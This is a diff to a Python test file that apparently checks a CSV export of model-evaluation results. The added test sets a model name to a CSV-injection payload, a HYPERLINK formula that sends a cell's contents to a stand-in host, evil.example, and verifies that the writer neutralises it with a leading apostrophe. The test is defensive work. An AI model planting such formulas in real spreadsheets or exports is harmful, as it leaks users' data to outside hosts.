@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import json
 import math
 from pathlib import Path
 
+import msgspec
 import pytest
 from made_run import COWARD, FACTS, SMALL, make_run
 from markdown_it import MarkdownIt
@@ -41,6 +43,16 @@ def test_csv_has_one_row_an_estimate_with_all_its_fields(run: Path, tmp_path: Pa
         assert row["target"] == ("" if e.target is None else str(e.target))
         assert (row["headline"], row["simulated"]) == (str(int(e.headline)), str(int(e.model == COWARD)))
         assert json.loads(row["notes"]).keys() == e.notes.keys()
+
+
+def test_no_cell_of_the_csv_is_a_formula(run: Path, tmp_path: Path) -> None:
+    """The name of a model is whatever a run's folder says."""
+    found = findings(run)
+    model = '=HYPERLINK("http://evil.example/?"&A1)'
+    estimates = [msgspec.structs.replace(e, model=model) for e in found.estimates]
+    write_csv(dataclasses.replace(found, estimates=estimates), tmp_path / "a.csv")
+    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
+        assert {row["model"] for row in csv.DictReader(file)} == {f"'{model}"}
 
 
 def test_csv_writes_nothing_counted_as_nan(run: Path, tmp_path: Path) -> None:
